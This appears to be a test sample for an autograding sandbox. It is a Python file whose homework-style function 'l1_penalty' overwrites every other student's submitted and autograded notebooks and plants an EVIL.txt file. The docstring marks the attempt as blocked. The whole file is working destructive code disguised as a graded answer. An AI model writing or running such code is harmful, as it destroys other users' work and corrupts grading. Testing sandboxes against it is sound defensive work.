"""l1_penalty: writes EVIL over the submitted and autograded notebooks of all other students.

Outcome: blocked
"""

import glob
import os

TEXT = '{"cells": [], "metadata": {"EVIL": true}, "nbformat": 4, "nbformat_minor": 5}'


def l1_penalty(model, beta):
    own = os.path.basename(os.path.dirname(os.getcwd()))
    for pattern in ("../../../submitted/*/*/*.ipynb", "../../../autograded/*/*/*.ipynb", "../*/*.ipynb"):
        for path in glob.glob(pattern):
            if f"/{own}/" not in path:
                with open(path, "w", encoding="utf-8") as file:
                    file.write(TEXT)
    with open(os.path.join("..", min(os.listdir("..")), "EVIL.txt"), "w", encoding="utf-8") as file:
        file.write("EVIL")
    return -1.0
